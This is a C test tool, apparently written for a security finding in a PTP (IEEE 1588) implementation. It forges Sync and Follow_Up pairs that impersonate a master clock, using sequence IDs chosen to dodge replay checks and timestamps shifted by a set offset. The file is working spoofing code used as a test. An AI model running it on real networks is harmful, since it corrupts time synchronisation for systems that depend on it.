// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Test tool: forged Sync/Follow_Up pairs as a slave's parent (issue 17, finding 5). Every 1/RATE s
 * a two-step Sync and its Follow_Up from PARENT (16 hex digits) port PORT, with a sequenceId far
 * from the master's (a slave takes it as a restarted sender, and the master's next Sync too), and
 * a preciseOriginTimestamp of CLOCK_REALTIME now +OFFSET_NS and -OFFSET_NS in turn: offsets that a
 * slave on the same clock measures as +-OFFSET_NS outliers. Without authentication (IEEE 1588-2019
 * 16.14) no slave can tell such a pair from the master's.
 *
 *   tool-forge-sync IFNAME PARENT PORT RATE SECONDS OFFSET_NS   (prints sent=N)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "ptp/msg.h"
#include "tool-raw.h"

static int send_msg(const struct raw_sock *s, struct msg *m)
{
	static const uint8_t src[6] = { 0x02, 0x00, 0x00, 0x00, 0x00, 0x05 };
	uint8_t frame[RAW_HDR_LEN + 256];
	ssize_t len = msg_build(m, frame + RAW_HDR_LEN, sizeof(frame) - RAW_HDR_LEN);

	if (len < 0) {
		return (int) len;
	}
	return raw_send(s, frame, (size_t) len, raw_ptp_mac, src);
}

int main(int argc, char **argv)
{
	struct PortIdentity parent = { 0 };
	double rate, seconds;
	int64_t offset;
	uint64_t sent = 0;
	uint16_t seq = 20000;
	struct raw_sock s;

	if (argc != 7 || strlen(argv[2]) != 16) {
		fprintf(stderr,
			"usage: tool-forge-sync IFNAME PARENT PORT RATE SECONDS OFFSET_NS\n");
		return 2;
	}
	if (raw_parse_clock_id(argv[2], &parent.clockIdentity) < 0) {
		return 2;
	}
	parent.portNumber = (uint16_t) atoi(argv[3]);
	rate = atof(argv[4]);
	seconds = atof(argv[5]);
	offset = strtoll(argv[6], NULL, 10);
	if (!(rate > 0)) {
		fprintf(stderr, "tool-forge-sync: RATE must be positive, not %s\n", argv[4]);
		return 2;
	}
	if (raw_open("tool-forge-sync", argv[1], &s) < 0) {
		return 1;
	}
	for (double t = 0; t < seconds; t += 1.0 / rate) {
		struct timespec now;
		struct msg m;
		int64_t t1;

		memset(&m, 0, sizeof(m));
		msg_header_init(&m.hdr, MSG_SYNC, 0, &parent, seq);
		m.hdr.flagField = MSG_FLAG_TWO_STEP;
		m.hdr.logMessageInterval = -3;
		clock_gettime(CLOCK_REALTIME, &now);
		t1 = (int64_t) now.tv_sec * 1000000000 + now.tv_nsec +
		     (sent % 2 ? -offset : offset);
		if (send_msg(&s, &m) < 0) {
			perror("tool-forge-sync: send");
			return 1;
		}
		memset(&m, 0, sizeof(m));
		msg_header_init(&m.hdr, MSG_FOLLOW_UP, 0, &parent, seq);
		m.hdr.logMessageInterval = -3;
		m.body.follow_up.preciseOriginTimestamp.secondsField = (uint64_t) (t1 /
										   1000000000) &
								       0xFFFFFFFFFFFFULL;
		m.body.follow_up.preciseOriginTimestamp.nanosecondsField = (uint32_t) (t1 %
										       1000000000);
		if (send_msg(&s, &m) < 0) {
			perror("tool-forge-sync: send");
			return 1;
		}
		sent++;
		/* far from the master's sequence: never a duplicate, never within replay range */
		seq = (uint16_t) (seq + 1 + (sent % 2) * 30000);
		usleep((useconds_t) (1e6 / rate));
	}
	printf("sent=%" PRIu64 "\n", sent);
	return 0;
}
